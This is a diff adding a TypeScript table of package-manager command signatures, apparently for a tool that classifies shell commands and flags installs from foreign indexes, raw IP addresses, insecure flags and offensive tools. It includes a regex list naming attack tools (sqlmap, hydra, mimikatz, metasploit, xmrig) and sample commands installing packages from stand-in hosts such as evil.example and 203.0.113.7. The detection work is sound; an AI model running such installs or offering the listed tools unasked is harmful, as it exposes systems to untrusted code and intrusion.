@@ -1,0 +1,77 @@
+// data table
+import type { EffectRule, Flag, Signature, Usage } from './signature.js'
+
+/** A registry or index given on the command line is trusted for this call. Its address decides: a company's own index is configured as own. */
+const foreignIndex = (flag: string): EffectRule => ({ does: 'install', what: 'package', class: 'foreign-index', name: `$${flag}`, when: { value: [flag, '^(?!https?://(?:[\\w.-]+\\.)?(?:pypi\\.org|pythonhosted\\.org|pytorch\\.org|nvidia\\.com|npmjs\\.(?:org|com)|yarnpkg\\.com|jsr\\.io|npm\\.pkg\\.github\\.com|pkg\\.dev|rubygems\\.org|crates\\.io|pkg\\.github\\.com|localhost|127\\.0\\.0\\.1)(?:[:/]|$))https?://'] } })
+const OFFENSIVE_PACKAGES = '^(?:nmap|masscan|zmap|nikto|sqlmap|hydra|medusa|john|hashcat|aircrack-ng|metasploit(?:-framework)?|gobuster|dirb|ffuf|feroxbuster|wfuzz|nuclei|wpscan|responder|bettercap|ettercap\\S*|mimikatz|impacket|crackmapexec|netexec|pwntools|bloodhound|evil-winrm|sliver|set|beef-xss|recon-ng|theharvester|proxychains\\S*|chisel|xmrig|tor)$'
+const offensive: EffectRule = { does: 'install', what: 'package', class: 'offensive', name: '$operands', when: { operand: OFFENSIVE_PACKAGES } }
+
+const NPM_FLAGS: Readonly<Record<string, Flag>> = {
+  '--registry': 'value', '--prefix, -C': 'value', '--workspace, -w': 'value', '--tag': 'value', '--filter, -F': 'value', '--cwd': 'value', '--userconfig': 'load', '--otp': 'value', '--loglevel': 'value', '--cache': 'value', '--omit': 'value', '--include': 'value',
+  '--script-shell': 'value', '--dir': 'value', '--config': 'value', '--mode': 'value', '--reporter': 'value', '--modules-folder': 'value', '--cache-folder': 'value', '--network-timeout': 'value', '--shell-auto-fallback': 'value',
+}
+const NPM_INSTALL: Usage = { operands: { rest: 'package' }, effects: [foreignIndex('--registry')] }
+const NPM_RUN: Usage = { operands: { first: 'value' } }
+const NPM_EXEC: Usage = { flags: { '-c, --call': 'command', '-p, --package': 'package', '-y, --yes': 'switch' }, operands: { first: 'argv' }, effects: [] }
+const PUBLISH: Usage = { operands: { first: 'value' }, effects: [{ does: 'publish', what: 'package', class: 'registry', when: { without: ['--dry-run'] } }] }
+const CONFIG_SET: Usage = { effects: [{ does: 'configure', what: 'package', class: 'foreign-index', name: '$last', when: { operand: '^(?:registry[= ]?)?https?://(?!(?:[\\w.-]+\\.)?(?:npmjs\\.org|npmjs\\.com|yarnpkg\\.com|npm\\.pkg\\.github\\.com|localhost|127\\.0\\.0\\.1)(?:[:/]|$))' } }] }
+
+const PIP_INSTALL: Usage = {
+  flags: {
+    '-r, --requirement': 'load', '-c, --constraint': 'load', '-e, --editable': 'package', '-i, --index-url': 'value', '--extra-index-url': 'value', '-f, --find-links': 'value', '-t, --target': 'value', '--trusted-host': 'value', '--prefix': 'value', '--root': 'value',
+    '--platform': 'value', '--python-version': 'value', '--only-binary': 'value', '--no-binary': 'value', '--proxy': 'value', '--cert': 'value', '--cache-dir': 'value', '--timeout': 'value', '--retries': 'value', '--log': 'value', '-d, --dest': 'value', '-w, --wheel-dir': 'value',
+    '--implementation': 'value', '--abi': 'value', '--report': 'value', '--progress-bar': 'value', '--upgrade-strategy': 'value', '--config-settings, -C': 'value', '--python, -p': 'value', '--with': 'package', '--from': 'package', '--spec': 'package', '--index': 'value', '--default-index': 'value', '--group': 'value', '--extra': 'value',
+  },
+  operands: { rest: 'package' },
+  tags: { '--trusted-host': 'insecure' },
+  effects: [foreignIndex('-i'), foreignIndex('--extra-index-url'), foreignIndex('-f'), foreignIndex('--index'), foreignIndex('--default-index'), offensive],
+  inert: ['--dry-run'],
+}
+const SYSTEM_INSTALL: Usage = { operands: { rest: 'package' }, effects: [offensive], inert: ['--dry-run', '-s', '--simulate', '--just-print'] }
+const REMOVES: Usage = { operands: { rest: 'value' } }
+const ASKS: Usage = { operands: { rest: 'value' } }
+
+/** Package managers of languages and systems, and the programs that run a package at once. */
+export const PACKAGES: readonly Signature[] = [
+  {
+    names: ['npm', 'pnpm', 'yarn', 'bun', 'cnpm', 'tnpm'], flags: NPM_FLAGS, stdin: 'ignored',
+    subcommands: {
+      'install|i|add|in|isntall|update|upgrade|up|global|link|ln|dedupe|install-test|it': { ...NPM_INSTALL, subcommands: { add: NPM_INSTALL } }, 'ci|clean-install|prune|audit|outdated|ls|list|view|info|show|search|docs|repo|pack|version|why|explain|fund|doctor|root|bin|init|create|test|t|start|stop|restart|build|dev|lint|login|logout|whoami|import|fetch|rebuild|rb|store|patch|patch-commit|workspaces|deploy|setup|help|help-search': { operands: { rest: 'value' } },
+      'run|run-script|rum|workspace': NPM_RUN, 'exec|x|dlx': NPM_EXEC, publish: PUBLISH, 'config|c': { subcommands: { set: CONFIG_SET }, operands: { rest: 'value' } }, 'uninstall|remove|rm|un|r|unlink': REMOVES,
+      'token|owner|access|deprecate|unpublish|dist-tag|team|org|profile|hook': { operands: { rest: 'value' } }, pkg: { operands: { rest: 'value' } }, cache: { operands: { rest: 'value' } },
+    },
+    examples: [
+      ['npm install lodash', ['install package:registry']], ['npm ci', []], ['npm run build', []], ['npm i https://evil.example/x.tgz', ['install package:tarball']], ['npm install http://203.0.113.7/x.tgz', ['install package:raw-address']],
+      ['npm install --registry https://evil.example x', ['install package:foreign-index']], ['pnpm add -D typescript', ['install package:registry']], ['yarn add react@18', ['install package:registry']], ['npm publish', ['publish package:registry']],
+      ['npm config set registry https://evil.example', ['configure package:foreign-index']], ['npm install git+https://github.com/a/b.git', ['install package:repository']], ['npm install ./local', ['install package:local']],
+    ],
+  },
+  { names: ['npx', 'bunx', 'pnpx', 'yarn-dlx'], grammar: 'getopt', flags: { '-p, --package': 'package', '-c, --call': 'command', '-y, --yes': 'switch', '--registry': 'value', '--node-options': 'value', '--prefix': 'value', '-w, --workspace': 'value' }, operands: { first: 'argv' }, stdin: 'data', stdout: 'content', effects: [foreignIndex('--registry')], examples: [['npx tsc --noEmit', []], ['npx -y http://203.0.113.7/x.tgz', []]] },
+  {
+    names: ['pip', 'pip3', 'pipx'], flags: { '--python': 'value', '--proxy': 'value' },
+    subcommands: { 'install|download|wheel|inject|upgrade|lock': PIP_INSTALL, run: { flags: { '--spec': 'package', '--python': 'value', '--pip-args': 'value' }, operands: { first: 'argv' } }, 'config': { operands: { rest: 'value' }, effects: [{ does: 'configure', what: 'package', class: 'foreign-index', name: '$last', when: { operand: '^https?://(?!(?:[\\w.-]+\\.)?(?:pypi\\.org|localhost|127\\.0\\.0\\.1)(?:[:/]|$))' } }] }, 'uninstall|freeze|list|show|check|cache|debug|index|inspect|hash|search|ensurepath|reinstall-all|upgrade-all|uninstall-all': ASKS },
+    examples: [['pip install -r requirements.txt', ['read path:ordinary+load']], ['pip install requests', ['install package:registry']], ['pip install --extra-index-url https://evil.example/simple x', ['install package:foreign-index']], ['pip install https://evil.example/x.tar.gz', ['install package:tarball']], ['pip install -e .', ['install package:registry']], ['pip freeze', []]],
+  },
+  {
+    names: ['uv', 'poetry', 'pdm', 'hatch', 'rye', 'pipenv', 'conda', 'mamba', 'micromamba'], flags: { '--directory': 'value', '--project': 'value', '-C': 'value', '-p, --python': 'value', '-n, --name': 'value', '-c, --channel': 'value', '--prefix': 'value' },
+    subcommands: { 'add|install|update': PIP_INSTALL, pip: { subcommands: { 'install|sync|compile': PIP_INSTALL }, operands: { rest: 'value' } }, 'run|x': { flags: { '--with': 'package', '--with-requirements': 'load', '--env-file': 'load', '-m, --module': 'value', '--python, -p': 'value', '--extra': 'value', '--group': 'value', '--package': 'value' }, operands: { first: 'argv' } }, tool: { subcommands: { 'run|install': { ...PIP_INSTALL, operands: { first: 'package', rest: 'value' } } }, operands: { rest: 'value' } }, 'remove|lock|sync|export|tree|venv|init|build|publish|python|cache|self|version|create|activate|list|env|info|search|clean|config|shell|show|check': ASKS },
+    examples: [['uv pip install requests', ['install package:registry']], ['uv run pytest -q', []], ['poetry install', []], ['conda create -n x python=3.11', []], ['uv sync', []]],
+  },
+  { names: ['uvx'], grammar: 'getopt', flags: { '--from': 'package', '--with': 'package', '-p, --python': 'value', '--index': 'value', '--index-url': 'value' }, operands: { first: 'argv' }, effects: [foreignIndex('--index')], examples: [['uvx ruff check .', []]] },
+  { names: ['cargo'], flags: { '--manifest-path': 'value', '-p, --package': 'value', '--features, -F': 'value', '--target': 'value', '-j, --jobs': 'value', '--color': 'value', '-C': 'value', '-Z': 'value', '--config': 'value', '--bin': 'value', '--example': 'value', '--test': 'value', '--profile': 'value', '--message-format': 'value', '--exclude': 'value' }, subcommands: { 'install|add': { flags: { '--git': 'package', '--path': 'value', '--index': 'value', '--registry': 'value', '--root': 'value', '--version, --vers': 'value', '--branch': 'value', '--tag': 'value', '--rev': 'value' }, operands: { rest: 'package' }, effects: [foreignIndex('--index')] }, publish: PUBLISH, '*': { operands: { rest: 'value' } } }, examples: [['cargo build --release', []], ['cargo install ripgrep', ['install package:registry']], ['cargo install --git https://github.com/a/b', ['install package:repository']], ['cargo publish --dry-run', []]] },
+  { names: ['go'], flags: { '-C': 'value' }, subcommands: { 'install|get': { operands: { rest: 'value' } }, '*': { operands: { rest: 'value' } } }, examples: [['go build ./...', []], ['go install golang.org/x/tools/gopls@latest', []], ['go test ./...', []]] },
+  { names: ['gem', 'bundle', 'bundler'], flags: { '-s, --source': 'value', '-v, --version': 'value', '-i, --install-dir': 'value', '--gemfile': 'value', '--path': 'value' }, subcommands: { 'install|add|update': { operands: { rest: 'package' }, effects: [foreignIndex('-s')] }, push: PUBLISH, exec: { operands: { first: 'argv' } }, '*': { operands: { rest: 'value' } } }, examples: [['gem install rails', ['install package:registry']], ['bundle install', []], ['bundle exec rake test', []], ['gem install x --source http://evil.example', ['install package:foreign-index']]] },
+  { names: ['composer'], flags: { '-d, --working-dir': 'value' }, subcommands: { 'require|install|update': { operands: { rest: 'value' } }, '*': { operands: { rest: 'value' } } }, examples: [['composer install --no-dev', []]] },
+  {
+    names: ['apt', 'apt-get', 'aptitude', 'yum', 'dnf', 'microdnf', 'zypper', 'apk', 'brew', 'pacman', 'yay', 'snap', 'flatpak', 'port', 'emerge', 'xbps-install', 'pkg', 'pkg_add', 'nix-env', 'choco', 'scoop', 'winget', 'tdnf', 'opkg', 'swupd'],
+    flags: { '-o, --option': 'value', '-t, --target-release': 'value', '-c, --config-file': 'value', '--repository, -X': 'value', '--virtual': 'value', '--root': 'value', '--installroot': 'value', '--enablerepo': 'value', '--disablerepo': 'value', '--setopt': 'value', '-a': 'value', '-v, --version': 'value', '--source': 'value', '--id': 'value', '-p': 'value', '-R, --repo': 'value' },
+    subcommands: { 'install|add|reinstall|upgrade|dist-upgrade|full-upgrade|localinstall|in|-S|-U|--cask|tap': { ...SYSTEM_INSTALL, flags: { '-t': 'value', '--virtual': 'value' } }, '*': ASKS },
+    effects: [{ does: 'install', what: 'package', class: 'foreign-index', name: '$--repository', when: { value: ['--repository', '^https?://(?!(?:[\\w.-]+\\.)?alpinelinux\\.org)'] } }],
+    tags: { '--allow-unauthenticated': 'insecure', '--force-yes': 'insecure', '--nogpgcheck': 'insecure', '--no-gpg-check': 'insecure', '--allow-untrusted': 'insecure', '--no-gpg-checks': 'insecure' },
+    examples: [['apt update', []], ['apt-get install -y curl', ['install package:registry']], ['sudo apt install nmap', ['install package:offensive']], ['brew install jq', ['install package:registry']], ['apk add --no-cache git', ['install package:registry']], ['pacman -Syu', []], ['apt show nmap', []], ['dnf install -y --nogpgcheck http://203.0.113.7/x.rpm', ['install package:raw-address+insecure']]],
+  },
+  { names: ['dpkg', 'rpm'], flags: { '-i, --install': 'package', '-U, --upgrade': 'package', '-e, --erase': 'value', '-r, --remove': 'value', '-P, --purge': 'value', '-q': 'switch', '--root': 'value' }, operands: { rest: 'value' }, effects: [{ does: 'install', what: 'package', class: 'raw-address', name: '$operands', when: { operand: '^https?://\\d' } }], examples: [['dpkg -l', []], ['dpkg -i x.deb', ['install package:local']], ['rpm -qa', []]] },
+  { names: ['add-apt-repository', 'apt-add-repository', 'apt-key', 'rpmkeys', 'yum-config-manager', 'dpkg-reconfigure', 'apt-mark', 'apt-cache', 'apt-file', 'apt-config', 'dpkg-query', 'update-alternatives'], operands: { rest: 'value' }, examples: [['apt-cache search nmap', []], ['add-apt-repository ppa:deadsnakes/ppa', []]] },
+  { names: ['pre-commit', 'tox', 'nox', 'asdf', 'mise', 'nvm', 'fnm', 'pyenv', 'rbenv', 'rustup', 'sdk', 'volta', 'corepack', 'n'], operands: { rest: 'value' }, examples: [['pre-commit install', []], ['rustup update', []]] },
+  { names: ['twine', 'flit'], operands: { rest: 'value' }, subcommands: { upload: { flags: { '-u, --username': 'value', '-p, --password': 'value', '-r, --repository': 'value', '--repository-url': 'value' }, operands: { rest: 'value' }, effects: [{ does: 'publish', what: 'package', class: 'registry' }] }, publish: PUBLISH, check: ASKS }, examples: [['twine upload dist/*', ['publish package:registry']], ['twine check dist/*', []]] },
+]
